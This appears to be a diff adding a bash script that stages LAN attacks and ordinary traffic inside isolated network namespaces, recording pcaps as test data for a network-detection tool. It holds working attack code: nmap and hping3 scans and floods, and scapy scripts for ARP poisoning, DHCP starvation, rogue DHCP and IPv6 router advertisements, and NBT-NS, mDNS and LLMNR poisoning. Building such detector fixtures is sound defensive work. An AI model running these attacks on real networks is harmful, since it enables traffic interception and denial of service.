@@ -1,0 +1,311 @@
+#!/bin/bash
+# stage-detections.sh OUTDIR [SCENARIO...]: stage attacks and ordinary traffic
+# with the real tools (nmap, hping3, arpspoof, arp-scan, scapy, dnsmasq, curl)
+# on a throw-away LAN of network namespaces and record each scenario, as a
+# switch's mirror port shows it, to OUTDIR/SCENARIO.pcap. No scenario list:
+# all of them. Needs root. Every namespace it makes is named d8<random>-*, holds
+# only 10.88.8.0/24 with no route out, and is removed on exit, failure included.
+#
+# The recordings in traffic/testdata/staged/ marked "stage-detections.sh" in
+# their README line came from here; replay one with
+#   tend replay --json --gateway 10.88.8.1 OUTDIR/SCENARIO.pcap
+set -euo pipefail
+
+out=$(realpath "$1"); shift
+mkdir -p "$out"
+py=/usr/bin/python3 # scapy lives in the system Python
+P=d8$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
+NET=10.88.8
+SW=$P-sw
+BOX=$P-box
+tmp=$(mktemp -d)
+chmod 755 "$tmp" # dnsmasq reads its hosts file as nobody
+pids=()
+
+cleanup() {
+	set +e
+	for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null; done
+	for ns in $(ip netns list | awk '{print $1}' | grep "^$P-"); do
+		ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
+		ip netns del "$ns"
+	done
+	rm -rf "$tmp" "/etc/netns/$P-pc"
+}
+trap cleanup EXIT
+
+# host NAME MAC LAST-OCTET: a namespace on the switch.
+host() {
+	local ns=$P-$1
+	ip netns add "$ns"
+	ip -n "$SW" link add "p$1" type veth peer name eth0 netns "$ns" address "$2"
+	ip -n "$ns" link set lo up
+	ip -n "$ns" addr add "$NET.$3/24" dev eth0
+	ip -n "$ns" link set eth0 up
+	[ "$3" = 1 ] || ip -n "$ns" route add default via "$NET.1"
+	ip -n "$SW" link set "p$1" master br0 up
+}
+
+inns() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }
+spawn() { local h=$1; shift; ip netns exec "$P-$h" "$@" >/dev/null 2>&1 & pids+=($!); }
+
+ip netns add "$SW"
+ip netns exec "$SW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+ip -n "$SW" link set lo up
+ip -n "$SW" link add br0 type bridge mcast_snooping 0 ageing_time 0 # floods every frame: a mirror port
+ip -n "$SW" link set br0 up
+ip netns add "$BOX"
+ip netns exec "$BOX" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+ip -n "$SW" link add pbox type veth peer name eth0 netns "$BOX" address 02:74:65:6e:64:fa
+ip -n "$BOX" link set eth0 up
+ip -n "$SW" link set pbox master br0 up
+
+host gw 00:1a:a1:00:00:01 1
+host pc 3c:52:82:00:00:10 10
+host pc2 f0:1f:af:00:00:11 11
+host nas 00:11:32:00:00:30 30
+host evil b8:27:eb:00:00:66 66
+# Quiet hosts to fill a subnet scan: 30 of them at .100-.129.
+for i in $(seq 100 129); do host "h$i" "$(printf '00:50:56:00:01:%02x' "$i")" "$i"; done
+
+# The PC asks the gateway for names (ip netns exec mounts this over /etc/resolv.conf).
+mkdir -p "/etc/netns/$P-pc"
+echo "nameserver $NET.1" >"/etc/netns/$P-pc/resolv.conf"
+# The gateway serves DNS and DHCP (dnsmasq); the NAS serves HTTP on 80 and
+# 8080 and has 30 more open ports (5000-5029) for multi-port clients.
+cat >"$tmp/hosts" <<EOF
+$NET.30 nas.lan
+$NET.1 gw.lan
+EOF
+start_gw_dnsmasq() {
+	spawn gw dnsmasq -k --no-resolv --no-hosts --addn-hosts="$tmp/hosts" --interface=eth0 --bind-interfaces \
+		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/gw.leases" --address=/example.com/$NET.30
+}
+start_gw_dnsmasq
+cat >"$tmp/serve.py" <<'EOF'
+import socket, threading, sys
+def serve(port):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("", port)); s.listen(64)
+    while True:
+        c, _ = s.accept()
+        def talk(c):
+            try:
+                c.recv(4096)
+                c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2000\r\n\r\n" + b"x" * 2000)
+            finally:
+                c.close()
+        threading.Thread(target=talk, args=(c,), daemon=True).start()
+for p in [80, 8080] + list(range(5000, 5030)):
+    threading.Thread(target=serve, args=(p,), daemon=True).start()
+threading.Event().wait()
+EOF
+spawn nas "$py" "$tmp/serve.py"
+sleep 2
+
+# record NAME CMD...: the box records while CMD runs, after a few seconds of
+# ordinary chatter (pings to the gateway, so ARP shows who owns which address).
+record() {
+	local name=$1; shift
+	echo "== $name: $*" >&2
+	ip netns exec "$BOX" tcpdump -q -i eth0 -U -w "$out/$name.pcap" 2>/dev/null & local td=$!
+	sleep 1
+	for h in pc pc2 nas evil; do
+		[[ $h = evil && $name = *silent* ]] || spawn "$h" ping -q -c 3 -i 0.3 "$NET.1"
+	done
+	sleep 1.5
+	"$@" >"$tmp/$name.log" 2>&1 || echo "   ($name: exit $?)" >&2
+	sleep 1
+	kill -INT "$td"; wait "$td" 2>/dev/null || true
+}
+
+nas=$NET.30
+scn_nmap_sS_T4() { inns evil nmap -sS -Pn -n -T4 --top-ports 100 "$nas"; }
+scn_nmap_sT() { inns evil nmap -sT -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_sU() { inns evil nmap -sU -Pn -n -T5 --max-retries 0 -p 1-60 "$nas"; }
+scn_nmap_sA() { inns evil nmap -sA -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_sF() { inns evil nmap -sF -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_sX() { inns evil nmap -sX -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_sN() { inns evil nmap -sN -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_sW() { inns evil nmap -sW -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_sM() { inns evil nmap -sM -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_T2() { inns evil nmap -sS -Pn -n -T2 -p 1-40 "$nas"; }
+scn_nmap_T5_allports() { inns evil nmap -sS -Pn -n -T5 -p- "$nas"; }
+scn_nmap_delay1s_few() { inns evil nmap -sS -Pn -n --scan-delay 1s -p 20-35 "$nas"; }
+scn_nmap_delay3s() { inns evil nmap -sS -Pn -n --scan-delay 3s -p 1-25 "$nas"; }
+scn_nmap_sn_arp() { inns evil nmap -sn -n "$NET.0/24"; }
+scn_nmap_sn_icmp() { inns evil nmap -sn -n --send-ip -PE "$NET.96/27"; }
+scn_nmap_O() { inns evil nmap -O -Pn -n -p 22,80 "$nas"; }
+scn_nmap_sV() { inns evil nmap -sV -Pn -n -p 80,8080 "$nas"; }
+scn_nmap_decoys() { inns evil nmap -sS -Pn -n -T4 -D "$NET.77,$NET.78,ME,$NET.79" -p 1-100 "$nas"; }
+scn_nmap_top10_subnet() { inns evil nmap -sS -n -T4 --top-ports 10 "$NET.0/24"; }
+scn_hping_syn_oneport() { inns evil timeout 3 hping3 -q -S -p 80 -i u1000 "$nas"; }
+scn_hping_syn_manyports() { inns evil timeout 3 hping3 -q -S -p ++1 -i u1000 "$nas"; }
+scn_hping_syn_randsrc_flood() { inns evil timeout 1 hping3 -q -S -p 80 --rand-source --flood "$nas"; }
+scn_hping_udp() { inns evil timeout 3 hping3 -q -2 -p 53 -i u1000 "$nas"; }
+scn_hping_udp_randsrc() { inns evil timeout 3 hping3 -q -2 -p 161 --rand-source -i u1000 "$nas"; }
+scn_hping_icmp() { inns evil timeout 3 hping3 -q -1 -i u1000 "$nas"; }
+scn_hping_icmp_randsrc() { inns evil timeout 3 hping3 -q -1 --rand-source -i u1000 "$nas"; }
+scn_arpspoof_oneway() { inns evil timeout 9 arpspoof -i eth0 -t "$NET.10" "$NET.1"; }
+scn_arpspoof_twoway() { inns evil timeout 9 arpspoof -i eth0 -t "$NET.10" -r "$NET.1"; }
+scn_arpscan() { inns evil arp-scan -I eth0 --localnet; }
+
+# scapy scripts: $1 is what they send, from evil unless said.
+scapy() { local h=$1 body=$2; shift 2; printf 'import sys, time\nfrom scapy.all import *\nconf.verb = 0\nmac = get_if_hwaddr("eth0")\n%s\n' "$body" >"$tmp/s.py"; inns "$h" "$py" "$tmp/s.py" "$@"; }
+
+scn_garp_gateway() {
+	# Gratuitous ARP (request and reply forms) claiming the gateway's address, every 2 s.
+	scapy evil 'for i in range(5):
+    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc="'$NET.1'", pdst="'$NET.1'"), iface="eth0")
+    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=2, hwsrc=mac, psrc="'$NET.1'", hwdst="ff:ff:ff:ff:ff:ff", pdst="'$NET.1'"), iface="eth0")
+    time.sleep(2)'
+}
+scn_garp_gateway_silent() {
+	# The same from a poisoner that never ARPs for an address of its own (its
+	# neighbour entries are static, it sends nothing else over ARP).
+	inns evil ip neigh replace "$NET.1" lladdr 00:1a:a1:00:00:01 nud permanent dev eth0
+	scn_garp_gateway
+	inns evil ip neigh del "$NET.1" dev eth0
+}
+scn_arp_flip() {
+	# The NAS's address claimed by evil in replies to the PC while the NAS keeps talking.
+	spawn nas ping -q -c 40 -i 0.25 "$NET.1"
+	scapy evil 'for i in range(8):
+    sendp(Ether(src=mac, dst="3c:52:82:00:00:10")/ARP(op=2, hwsrc=mac, psrc="'$NET.30'", hwdst="3c:52:82:00:00:10", pdst="'$NET.10'"), iface="eth0")
+    time.sleep(1)'
+}
+scn_dhcp_starve_forged_src() {
+	# yersinia's shape: every DISCOVER from its own random source MAC, chaddr the same.
+	scapy evil 'for i in range(120):
+    m = str(RandMAC())
+    sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+          BOOTP(chaddr=mac2str(m), xid=RandInt())/DHCP(options=[("message-type", "discover"), "end"]), iface="eth0")'
+}
+scn_dhcp_starve_request() {
+	# dhcpig's shape: REQUESTs for every address of the pool, a forged chaddr each, slower (4 a second).
+	scapy evil 'for i in range(150, 210):
+    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+          BOOTP(chaddr=mac2str(RandMAC()), xid=RandInt())/DHCP(options=[("message-type", "request"), ("requested_addr", "'$NET'.%d" % i), ("server_id", "'$NET.1'"), "end"]), iface="eth0")
+    time.sleep(0.25)'
+	sleep 10 # the gateway's ping checks of the addresses it offers
+}
+dhcp_discover='sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+      BOOTP(chaddr=mac2str(mac), xid=0x1234)/DHCP(options=[("message-type", "discover"), ("hostname", "pc"), "end"]), iface="eth0")'
+scn_rogue_dhcp_same_router() {
+	# A rogue server that hands out the real gateway as router but itself as DNS,
+	# and answers before the real one (which waits 1 s).
+	pkill_gw_dnsmasq
+	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --dhcp-reply-delay=1 \
+		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/gw2.leases" --port=0
+	spawn evil dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces \
+		--dhcp-range=$NET.210,$NET.240,1h --dhcp-option=3,$NET.1 --dhcp-option=6,$NET.66 --dhcp-leasefile="$tmp/evil.leases" --port=0
+	sleep 1
+	scapy pc "$dhcp_discover"
+	sleep 3
+	ip netns pids "$P-evil" | xargs -r kill
+	pkill_gw_dnsmasq
+	start_gw_dnsmasq
+}
+pkill_gw_dnsmasq() {
+	local p
+	for p in $(ip netns pids "$P-gw"); do [ "$(cat /proc/$p/comm 2>/dev/null)" = dnsmasq ] && kill "$p"; done
+	sleep 0.5
+}
+scn_rogue_ra_fake_router() {
+	# fake_router6's shape: evil announces itself (its own link-local address) as
+	# the default router with a prefix, high preference; the gateway advertises too.
+	scapy gw 'lla = "fe80::21a:a1ff:fe00:1"
+sendp(Ether(src=mac, dst="33:33:00:00:00:01")/IPv6(src=lla, dst="ff02::1")/ICMPv6ND_RA(routerlifetime=1800)/
+      ICMPv6NDOptSrcLLAddr(lladdr=mac)/ICMPv6NDOptPrefixInfo(prefix="2001:db8:1::", prefixlen=64), iface="eth0")'
+	scapy evil 'lla = "fe80::ba27:ebff:fe00:66"
+for i in range(3):
+    sendp(Ether(src=mac, dst="33:33:00:00:00:01")/IPv6(src=lla, dst="ff02::1")/ICMPv6ND_RA(routerlifetime=1800, prf=1)/
+          ICMPv6NDOptSrcLLAddr(lladdr=mac)/ICMPv6NDOptPrefixInfo(prefix="2001:db8:66::", prefixlen=64), iface="eth0")
+    time.sleep(1)'
+}
+scn_nbtns_poison() {
+	# Responder's NBT-NS answers: three names asked by the PC, each answered as evil.
+	scapy evil 'for i, name in enumerate(["FILESRV", "PRINTER2", "INTRANET"]):
+    sendp(Ether(dst="3c:52:82:00:00:10")/IP(src="'$NET.66'", dst="'$NET.10'")/UDP(sport=137, dport=137)/
+          NBNSHeader(NAME_TRN_ID=100+i, RESPONSE=1, NM_FLAGS="AA+RD", ANCOUNT=1, QDCOUNT=0)/
+          NBNSQueryResponse(RR_NAME=name, ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS="'$NET.66'")]), iface="eth0")
+    time.sleep(0.3)'
+}
+scn_mdns_poison() {
+	# Responder's mDNS answers: three names (not its own) all pointing at evil.
+	scapy evil 'for i, name in enumerate(["nas.local", "printer.local", "fileserver.local"]):
+    sendp(Ether(dst="01:00:5e:00:00:fb")/IP(src="'$NET.66'", dst="224.0.0.251", ttl=255)/UDP(sport=5353, dport=5353)/
+          DNS(id=0, qr=1, aa=1, qd=None, an=DNSRR(rrname=name, type="A", rdata="'$NET.66'", ttl=120)), iface="eth0")
+    time.sleep(0.3)'
+}
+scn_llmnr_one_name() {
+	# One LLMNR answer for one name the host does not own (a short Responder run).
+	scapy evil 'sendp(Ether(dst="3c:52:82:00:00:10")/IP(src="'$NET.66'", dst="'$NET.10'")/UDP(sport=5355, dport=50001)/
+      LLMNRResponse(id=7, qd=DNSQR(qname="fileserv"), an=DNSRR(rrname="fileserv", rdata="'$NET.66'", ttl=30)), iface="eth0")'
+}
+
+# Ordinary traffic: must stay at info or below.
+scn_benign_office() {
+	spawn pc ping -q -c 20 -i 0.5 "$nas"
+	for i in $(seq 1 20); do inns pc curl -s -o /dev/null "http://$nas/" || true; done
+	# DNS questions to the gateway, answered (python, the resolver's way).
+	inns pc "$py" -c '
+import socket
+for n in ["nas.lan", "gw.lan", "example.com", "www.example.com", "nas.lan"] * 4:
+    try: socket.getaddrinfo(n, 80, socket.AF_INET)
+    except Exception: pass'
+	# A DHCP client that renews (DISCOVER, REQUEST) with the real server.
+	scapy pc2 'x = 0x4242
+p = srp1(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+      BOOTP(chaddr=mac2str(mac), xid=x)/DHCP(options=[("message-type", "discover"), "end"]), iface="eth0", timeout=3)
+if p:
+    yi = p[BOOTP].yiaddr
+    for i in range(3):
+        sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+              BOOTP(chaddr=mac2str(mac), xid=x+i)/DHCP(options=[("message-type", "request"), ("requested_addr", yi), ("server_id", "'$NET.1'"), "end"]), iface="eth0")
+        time.sleep(1)'
+}
+scn_benign_discovery() {
+	# mDNS announcements and answers for the hosts' own names and services, SSDP NOTIFYs and M-SEARCHes.
+	scapy nas 'for i in range(3):
+    sendp(Ether(dst="01:00:5e:00:00:fb")/IP(src="'$NET.30'", dst="224.0.0.251", ttl=255)/UDP(sport=5353, dport=5353)/
+          DNS(id=0, qr=1, aa=1, an=DNSRR(rrname="nas.local", type="A", rdata="'$NET.30'", ttl=120)/
+              DNSRR(rrname="_smb._tcp.local", type="PTR", rdata="nas._smb._tcp.local", ttl=4500)/
+              DNSRR(rrname="_http._tcp.local", type="PTR", rdata="nas._http._tcp.local", ttl=4500)), iface="eth0")
+    sendp(Ether(dst="01:00:5e:7f:ff:fa")/IP(src="'$NET.30'", dst="239.255.255.250", ttl=4)/UDP(sport=1900, dport=1900)/
+          Raw(b"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\nLOCATION: http://'$NET.30':8080/desc.xml\r\n\r\n"), iface="eth0")
+    time.sleep(1)'
+	scapy pc 'for i in range(3):
+    sendp(Ether(dst="01:00:5e:7f:ff:fa")/IP(src="'$NET.10'", dst="239.255.255.250", ttl=4)/UDP(sport=50123, dport=1900)/
+          Raw(b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"), iface="eth0")
+    sendp(Ether(dst="01:00:5e:00:00:fb")/IP(src="'$NET.10'", dst="224.0.0.251", ttl=255)/UDP(sport=5353, dport=5353)/
+          DNS(id=0, qr=1, aa=1, an=DNSRR(rrname="pc.local", type="A", rdata="'$NET.10'", ttl=120)/
+              DNSRR(rrname="pc.local", type="AAAA", rdata="fe80::3e52:82ff:fe00:10", ttl=120)), iface="eth0")
+    time.sleep(1)'
+}
+scn_benign_browser() {
+	# A browser's burst: 60 connections to port 80 and 8080 of one server at once.
+	for i in $(seq 1 30); do
+		inns pc curl -s -o /dev/null "http://$nas/a$i" & c+=($!)
+		inns pc curl -s -o /dev/null "http://$nas:8080/b$i" & c+=($!)
+	done
+	wait "${c[@]}"
+}
+scn_benign_multiport() {
+	# A backup or passive-FTP client: data connections to 30 open ports of one server within a minute.
+	inns pc "$py" -c '
+import socket, time
+for rnd in range(2):
+    for p in range(5000, 5030):
+        s = socket.create_connection(("'$nas'", p)); s.sendall(b"GET / HTTP/1.0\r\n\r\n")
+        while s.recv(4096): pass
+        s.close(); time.sleep(0.1)'
+}
+scn_benign_ssh_like_refused() {
+	# A client that keeps retrying one stopped service (a closed port) and a wrong one.
+	for i in $(seq 1 10); do inns pc curl -s -m 1 -o /dev/null "http://$nas:8443/" || true; inns pc curl -s -m 1 -o /dev/null "http://$nas:22/" || true; sleep 0.3; done
+}
+
+all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
+for s in ${@:-$all}; do
+	record "$s" "scn_$s"
+done
